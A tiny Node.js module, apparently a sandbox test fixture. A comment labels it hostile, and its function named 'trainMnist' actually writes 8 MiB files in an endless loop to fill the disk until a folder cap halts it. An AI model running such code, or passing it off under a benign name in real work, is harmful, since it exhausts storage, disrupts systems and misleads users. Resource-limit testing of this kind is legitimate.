// Hostile: fills its working folder with 8 MiB files until the folder's size cap stops it.
import { writeFileSync } from 'node:fs';

export async function trainMnist() {
  const block = Buffer.alloc(8 * 1024 * 1024, 1);
  for (let i = 0; ; i++) writeFileSync(`./block-${i}.bin`, block);
}
